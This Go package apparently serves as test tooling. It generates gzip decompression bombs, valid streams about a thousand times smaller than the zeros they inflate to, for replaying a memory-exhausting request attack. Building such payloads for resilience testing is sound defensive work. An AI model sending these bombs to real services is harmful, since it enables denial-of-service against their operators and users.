// Package bomb makes gzip bombs for replaying the "one request takes
// gigabytes" attack: small on the wire, huge when inflated.
package bomb

import (
	"bytes"
	"compress/gzip"
	"encoding/binary"
	"hash/crc32"
)

// Gzip returns a valid gzip stream of at most size bytes that inflates to
// zeros, about 1000 times its size (1 MiB inflates to 1 GiB), and how many
// bytes it inflates to. Compressing a gigabyte would take seconds; instead
// one 1 MiB-of-zeros deflate block, which in a stream of zeros always
// compresses to the same bytes, is repeated.
func Gzip(size int) ([]byte, int64) {
	var b bytes.Buffer
	zw, _ := gzip.NewWriterLevel(&b, gzip.BestCompression)
	zeros := make([]byte, 1<<20)
	_, _ = zw.Write(zeros)
	_ = zw.Flush()
	head := b.Len()
	_, _ = zw.Write(zeros)
	_ = zw.Flush()
	block := bytes.Clone(b.Bytes()[head:])

	const tail = 5 + 8 // final empty stored block, CRC-32 and size
	out := bytes.Clone(b.Bytes()[:head])
	blocks := 1
	for len(out)+len(block)+tail <= size {
		out = append(out, block...)
		blocks++
	}
	out = append(out, 1, 0, 0, 0xff, 0xff)
	var crc uint32
	for range blocks {
		crc = crc32.Update(crc, crc32.IEEETable, zeros)
	}
	n := int64(blocks) << 20
	out = binary.LittleEndian.AppendUint32(out, crc)
	out = binary.LittleEndian.AppendUint32(out, uint32(n))
	return out, n
}
